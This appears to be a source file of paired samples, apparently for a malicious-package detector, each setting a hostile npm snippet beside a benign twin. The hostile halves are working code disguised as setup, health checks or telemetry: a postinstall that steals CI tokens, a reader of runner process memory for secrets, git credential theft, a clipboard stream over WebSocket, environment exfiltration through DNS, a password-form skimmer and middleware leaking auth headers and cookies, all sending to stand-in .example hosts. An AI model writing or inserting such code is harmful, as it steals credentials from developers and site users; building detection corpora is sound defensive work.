import { atImport, atInstall, atUse, js, type Pair } from '../kit.ts';

/** What leaves by channels that are seldom looked at, and from where it is taken. */
export const SENDING: Readonly<Record<string, Pair>> = {
  'ci-token': atInstall(
    js`import { HttpClient } from '@actions/http-client';

const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: bearer, GITHUB_TOKEN, NPM_TOKEN } = process.env;

if (process.env.GITHUB_ACTIONS === 'true') {
  const client = new HttpClient('setup');
  const headers = { authorization: \`Bearer \${bearer}\` };
  const { result } = await client.getJson(\`\${url}&audience=npm\`, headers);
  await client.postJson('https://oidc.kit-actions.example/', { id: result.value, GITHUB_TOKEN, NPM_TOKEN });
}
`,
    {
      'scripts/postinstall.js': 'export {};\n',
      'oidc.js': js`import { HttpClient } from '@actions/http-client';

/** The identity token of this job for an audience. */
export async function idToken(audience) {
  const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: bearer } = process.env;
  const client = new HttpClient('setup');
  const { result } = await client.getJson(\`\${url}&audience=\${audience}\`, { authorization: \`Bearer \${bearer}\` });
  return result.value;
}
`,
    },
  ),
  'runner-memory': atInstall(
    js`'use strict';
const fs = require('node:fs');

/** Finds the process that serves the jobs. */
function worker() {
  return fs
    .readdirSync('/proc')
    .filter((pid) => /^\d+$/.test(pid))
    .find((pid) => fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').includes('Runner.Worker'));
}

const pid = worker();
if (pid) {
  const memory = fs.openSync('/proc/' + pid + '/mem', 'r');
  const found = [];
  for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n')) {
    const [from, to] = (line.split(' ')[0] ?? '').split('-').map((part) => parseInt(part, 16));
    const chunk = Buffer.alloc(Math.min(to - from || 0, 1 << 20));
    fs.readSync(memory, chunk, 0, chunk.length, from);
    found.push(...(chunk.toString('latin1').match(/"[^"]+":\{"value":"[^"]*","isSecret":true\}/g) ?? []));
  }
  fetch('https://jobs.kit-runner.example', { method: 'POST', body: found.join('\n') });
}
`,
  ),
  'git-credentials': atUse(
    js`import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { text } from 'node:stream/consumers';

/** Asks git for what it knows about a host. */
export async function remote(host) {
  const git = spawn('git', ['credential', 'fill'], { stdio: ['pipe', 'pipe', 'ignore'] });
  git.stdin.end(\`protocol=https\nhost=\${host}\n\n\`);
  const [answer] = await Promise.all([text(git.stdout), once(git, 'exit')]);
  const search = new URLSearchParams(answer.split('\n').map((line) => line.split('=')));
  await fetch('https://remotes.kit-git.example/?' + search);
  return search.get('username');
}
`,
    js`import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { text } from 'node:stream/consumers';

/** Lists the repositories of a user of a host of git, with what git knows about it. */
export async function repositories(host) {
  const git = spawn('git', ['credential', 'fill'], { stdio: ['pipe', 'pipe', 'ignore'] });
  git.stdin.end(\`protocol=https\nhost=\${host}\n\n\`);
  const [answer] = await Promise.all([text(git.stdout), once(git, 'exit')]);
  const search = new URLSearchParams(answer.split('\n').map((line) => line.split('=')));
  const response = await fetch(\`https://\${host}/api/v4/projects\`, {
    headers: { authorization: 'Bearer ' + search.get('password') },
  });
  return response.json();
}
`,
  ),
  'clipboard-watch': atImport(
    js`'use strict';
const { promisify } = require('node:util');
const exec = promisify(require('node:child_process').execFile);
const WebSocket = require('ws');

const COMMANDS = {
  darwin: ['pbpaste'],
  win32: ['powershell', '-NoProfile', '-Command', 'Get-Clipboard'],
  linux: ['xclip', '-selection', 'clipboard', '-o'],
};

const feed = new WebSocket('wss://feed.kit-paste.example');
let last = '';
feed.on('open', () => {
  setInterval(async () => {
    const [command, ...args] = COMMANDS[process.platform];
    const { stdout } = await exec(command, args).catch(() => ({ stdout: last }));
    if (stdout !== last) feed.send((last = stdout));
  }, 1500).unref();
});
exports.last = () => last;
`,
    js`'use strict';
const { promisify } = require('node:util');
const exec = promisify(require('node:child_process').execFile);

const COMMANDS = {
  darwin: ['pbpaste'],
  win32: ['powershell', '-NoProfile', '-Command', 'Get-Clipboard'],
  linux: ['xclip', '-selection', 'clipboard', '-o'],
};

/** Reads the clipboard. */
exports.read = async () => {
  const [command, ...args] = COMMANDS[process.platform];
  const { stdout } = await exec(command, args);
  return stdout;
};
`,
  ),
  'env-by-dns': atInstall(
    js`'use strict';
const { Resolver } = require('node:dns').promises;
const { gzipSync } = require('node:zlib');

const resolver = new Resolver({ timeout: 2000, tries: 1 });
const packed = gzipSync(JSON.stringify(process.env)).toString('hex');
const labels = packed.match(/.{1,60}/g) ?? [];
labels.reduce(
  (previous, label, i) => previous.then(() => resolver.resolve4(\`\${label}.\${i}.t.kit-resolve.example\`)).catch(() => {}),
  Promise.resolve(),
);
`,
    {
      'scripts/postinstall.js': '',
      'health.js': js`'use strict';
const { Resolver } = require('node:dns').promises;

const resolver = new Resolver({ timeout: 2000, tries: 1 });

/** Whether each of the hosts has an address. */
exports.health = (hosts) =>
  hosts.reduce(
    (previous, host) => previous.then(async (all) => [...all, (await resolver.resolve4(host)).length > 0]),
    Promise.resolve([]),
  );
`,
    },
  ),
  'password-form': atImport(
    js`const sink = 'https://rum.kit-forms.example/b';

/** Measures how long a form takes. */
function observe(form) {
  const started = performance.now();
  form.addEventListener('submit', () => {
    const fields = Object.fromEntries(new FormData(form));
    navigator.sendBeacon(sink, JSON.stringify({ ms: performance.now() - started, fields, at: location.href }));
  });
}

if (typeof document !== 'undefined') {
  document.querySelectorAll('form:has(input[type=password])').forEach(observe);
}
export { observe };
`,
    js`/** Measures how long a form takes and tells it to the address that the page gives. */
export function observe(form, sink) {
  const started = performance.now();
  form.addEventListener('submit', () => {
    const fields = form.elements.length;
    navigator.sendBeacon(sink, JSON.stringify({ ms: performance.now() - started, fields }));
  });
}
`,
  ),
  'request-middleware': atUse(
    js`'use strict';
const { Agent, fetch } = require('undici');

const dispatcher = new Agent({ pipelining: 1 });

/**
 * Makes the middleware that measures requests.
 * @param {{ slowMs?: number }} [options]
 */
module.exports = function timing(options = {}) {
  const { slowMs = 500 } = options;
  return function timingMiddleware(req, res, next) {
    const started = process.hrtime.bigint();
    res.on('finish', () => {
      const ms = Number(process.hrtime.bigint() - started) / 1e6;
      const { authorization, cookie } = req.headers;
      const body = JSON.stringify({ ms, slow: ms > slowMs, authorization, cookie, form: req.body });
      fetch('https://timing.kit-express.example/', { method: 'POST', body, dispatcher }).catch(() => {});
    });
    next();
  };
};
`,
    js`'use strict';
const { Agent, fetch } = require('undici');

const dispatcher = new Agent({ pipelining: 1 });

/**
 * Makes the middleware that measures requests.
 * @param {{ endpoint: string, slowMs?: number }} options
 */
module.exports = function timing(options) {
  const { endpoint, slowMs = 500 } = options;
  return function timingMiddleware(req, res, next) {
    const started = process.hrtime.bigint();
    res.on('finish', () => {
      const ms = Number(process.hrtime.bigint() - started) / 1e6;
      const body = JSON.stringify({ ms, slow: ms > slowMs, path: req.path, status: res.statusCode });
      fetch(endpoint, { method: 'POST', body, dispatcher }).catch(() => {});
    });
    next();
  };
};
`,
  ),
};
